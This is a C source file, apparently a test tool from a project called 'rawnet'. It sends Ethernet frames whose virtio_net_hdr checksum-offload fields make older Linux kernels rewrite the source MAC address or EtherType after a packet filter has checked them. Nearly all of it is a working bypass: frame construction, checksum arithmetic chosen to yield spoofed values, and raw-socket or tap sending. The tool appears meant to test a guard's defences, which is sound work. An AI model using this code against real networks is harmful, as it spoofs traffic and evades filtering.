/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * The checksum trick, as an attacker with a lease's fd plays it: frames that look harmless to the
 * guard, each with a virtio_net_hdr that asks the kernel to complete a "checksum" over the whole
 * frame and to store it in the source address or the EtherType. The bytes are chosen so that the
 * completed sum is the value the attacker wants there. Kernels before about 6.12 obey
 * (virtio_net_hdr_to_skb(), include/linux/virtio_net.h), after the guard has looked.
 *
 * Prints a line for each attempt, "sent VARIANT" or "refused VARIANT: reason", and exits 0 when
 * every attempt was made; whether a frame got out, and as what, is seen on the wire: each carries
 * the cookie. It needs no capability with --fd;
 * --interface opens a socket or tap of its own, to show that the attack is real where nothing is in
 * its way.
 */

#include <arpa/inet.h>
#include <fcntl.h>
#include <getopt.h>
#include <linux/if_packet.h>
#include <linux/if_tun.h>
#include <linux/virtio_net.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>

#include "common/mac.h"
#include "common/text.h"
#include "common/util.h"

#define FRAME_SIZE 96u
#define FILLER_OFFSET 94u /* the last 16 bits: what makes the sum come out as wanted */
#define COOKIE_OFFSET 20u
#define COOKIE_MAX 64u
#define ETHERTYPE_EXPERIMENT 0x88b5u /* IEEE 802 local experimental EtherType 1 */
#define STOLEN 0x0a0au               /* becomes the first two octets of the source */
#define STOLEN_VID 100u

/* Where a completed checksum goes: start + offset, whatever way the two are split. */
typedef struct Variant {
        const char *name;
        uint16_t start, offset;
        bool tag; /* rewrites the EtherType; else the first half of the source address */
} Variant;

static const Variant VARIANTS[] = {
        {"source-0-6", 0, 6, false},   {"source-6-0", 6, 0, false},
        {"source-4-2", 4, 2, false},   {"ethertype-0-12", 0, 12, true},
        {"ethertype-6-6", 6, 6, true}, {"ethertype-12-0", 12, 0, true},
};

static int arg_fd = -1;
static bool arg_tap;
static bool arg_bypass;
static const char *arg_interface;
static const char *arg_cookie = "rawnet checksum trick";
static uint32_t arg_ifindex;
static MacAddress arg_mac;

static void put16(uint8_t *at, uint16_t value) {
        at[0] = (uint8_t)(value >> 8);
        at[1] = (uint8_t)value;
}

static uint16_t get16(const uint8_t *at) {
        return (uint16_t)(at[0] << 8 | at[1]);
}

/* RFC 1071's one's complement sum, not inverted. */
static uint16_t sum_of(const uint8_t *bytes, size_t size) {
        uint32_t sum = 0;

        for (size_t i = 0; i + 1 < size; i += 2)
                sum += get16(bytes + i);
        while (sum >> 16)
                sum = (sum & 0xffff) + (sum >> 16);
        return (uint16_t)sum;
}

/* A frame that is honest to look at, and that becomes the wanted one when its "checksum" is
 * completed. The kernel sums everything from start on, the bytes it will overwrite among them, and
 * stores the complement. */
static void build_frame(const Variant *variant, uint8_t frame[static FRAME_SIZE]) {
        uint16_t wanted = variant->tag ? ETHERTYPE_VLAN : STOLEN;
        uint16_t target = (uint16_t)~wanted, sum;
        size_t length = strlen(arg_cookie);

        memset(frame, 0, FRAME_SIZE);
        memset(frame, 0xff, 6);
        memcpy(frame + 6, arg_mac.octet, sizeof(arg_mac.octet));
        put16(frame + 12, ETHERTYPE_EXPERIMENT);
        /* What follows the EtherType is the tag, once the EtherType says that it is one. */
        put16(frame + 14, STOLEN_VID);
        put16(frame + 16, ETHERTYPE_EXPERIMENT);
        memcpy(frame + COOKIE_OFFSET, arg_cookie, MIN_OF(length, COOKIE_MAX));
        sum = sum_of(frame + variant->start, FRAME_SIZE - variant->start);
        /* In one's complement, a - b is a + ~b. */
        uint32_t filler = (uint32_t)target + (uint16_t)~sum;
        put16(frame + FILLER_OFFSET, (uint16_t)((filler & 0xffff) + (filler >> 16)));
}

static int usage(void) {
        fprintf(stderr,
                "usage: checksum-trick (--fd N | --interface NAME) [--tap] --mac SOURCE [--ifindex N]\n"
                "                      [--bypass] [--cookie TEXT]\n");
        return 2;
}

static int parse_arguments(int argc, char **argv) {
        static const struct option OPTIONS[] = {
                {"fd", required_argument, NULL, 'f'},
                {"interface", required_argument, NULL, 'i'},
                {"tap", no_argument, NULL, 't'},
                {"mac", required_argument, NULL, 'm'},
                {"ifindex", required_argument, NULL, 'x'},
                {"bypass", no_argument, NULL, 'b'},
                {"cookie", required_argument, NULL, 'c'},
                {0},
        };
        bool have_mac = false;
        uint32_t value = 0;
        int c;

        while ((c = getopt_long(argc, argv, "", OPTIONS, NULL)) >= 0) {
                bool number = c == 'f' || c == 'x';

                if (c == '?' || (number && text_parse_u32(optarg, 0, INT32_MAX, &value) < 0))
                        return -EINVAL;
                switch (c) {
                case 'f':
                        arg_fd = (int)value;
                        break;
                case 'x':
                        arg_ifindex = value;
                        break;
                case 'i':
                        arg_interface = optarg;
                        break;
                case 't':
                        arg_tap = true;
                        break;
                case 'b':
                        arg_bypass = true;
                        break;
                case 'c':
                        arg_cookie = optarg;
                        break;
                case 'm':
                        if (mac_parse(optarg, &arg_mac) < 0)
                                return -EINVAL;
                        have_mac = true;
                        break;
                }
        }
        return have_mac && (arg_fd >= 0) != (arg_interface != NULL) && optind == argc ? 0 : -EINVAL;
}

static int open_packet(void) {
        struct sockaddr_ll address = {
                .sll_family = AF_PACKET,
                .sll_protocol = htons(ETH_P_ALL),
                .sll_ifindex = (int)if_nametoindex(arg_interface),
        };
        _cleanup_close_ int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);

        if (fd < 0 || address.sll_ifindex == 0 ||
            bind(fd, (struct sockaddr *)&address, sizeof(address)) < 0)
                return -errno;
        return TAKE_FD(fd);
}

static int open_tap(void) {
        struct ifreq request = {.ifr_flags = IFF_TAP | IFF_NO_PI | IFF_VNET_HDR};
        _cleanup_close_ int fd = open("/dev/net/tun", O_RDWR | O_CLOEXEC);

        if (strlen(arg_interface) >= sizeof(request.ifr_name))
                return -ENAMETOOLONG;
        memcpy(request.ifr_name, arg_interface, strlen(arg_interface));
        if (fd < 0 || ioctl(fd, TUNSETIFF, &request) < 0)
                return -errno;
        return TAKE_FD(fd);
}

/* How long a virtio_net_hdr the fd takes: a tap's may have been set by its last holder. 0 or
 * -errno. */
static int prepare_fd(int *ret_header) {
        int one = 1;

        *ret_header = (int)sizeof(struct virtio_net_hdr);
        if (arg_tap)
                return ioctl(arg_fd, TUNGETVNETHDRSZ, ret_header) < 0 ? -errno : 0;
        /* No capability is asked for either of the two. */
        if (setsockopt(arg_fd, SOL_PACKET, PACKET_VNET_HDR, &one, sizeof(one)) < 0)
                return -errno;
        if (arg_bypass &&
            setsockopt(arg_fd, SOL_PACKET, PACKET_QDISC_BYPASS, &one, sizeof(one)) < 0)
                return -errno;
        return 0;
}

static int send_variant(const Variant *variant, int header_size) {
        struct virtio_net_hdr header = {
                .flags = VIRTIO_NET_HDR_F_NEEDS_CSUM,
                .csum_start = variant->start,
                .csum_offset = variant->offset,
        };
        struct sockaddr_ll address = {
                .sll_family = AF_PACKET,
                .sll_protocol = htons(ETHERTYPE_EXPERIMENT),
                .sll_ifindex = (int)arg_ifindex,
                .sll_halen = 6,
        };
        uint8_t message[64 + FRAME_SIZE] = {0};
        size_t size = (size_t)header_size + FRAME_SIZE;
        ssize_t n;

        if (header_size < (int)sizeof(header) || size > sizeof(message))
                return -EINVAL;
        memcpy(message, &header, sizeof(header));
        build_frame(variant, message + header_size);
        if (arg_tap)
                n = write(arg_fd, message, size);
        else if (arg_ifindex)
                n = sendto(arg_fd, message, size, MSG_DONTWAIT, (struct sockaddr *)&address,
                           sizeof(address));
        else
                n = send(arg_fd, message, size, MSG_DONTWAIT);
        return n < 0 ? -errno : 0;
}

int main(int argc, char **argv) {
        int header_size, r;

        if (parse_arguments(argc, argv) < 0)
                return usage();
        if (arg_interface)
                arg_fd = arg_tap ? open_tap() : open_packet();
        if (arg_fd < 0) {
                fprintf(stderr, "checksum-trick: %s: %s\n", arg_interface, strerror(-arg_fd));
                return 1;
        }
        r = prepare_fd(&header_size);
        if (r < 0) {
                fprintf(stderr, "checksum-trick: no virtio_net_hdr on this fd: %s\n", strerror(-r));
                return 1;
        }
        for (size_t i = 0; i < ARRAY_SIZE(VARIANTS); i++) {
                r = send_variant(&VARIANTS[i], header_size);
                if (r < 0)
                        printf("refused %s: %s\n", VARIANTS[i].name, strerror(-r));
                else
                        printf("sent %s\n", VARIANTS[i].name);
        }
        return 0;
}
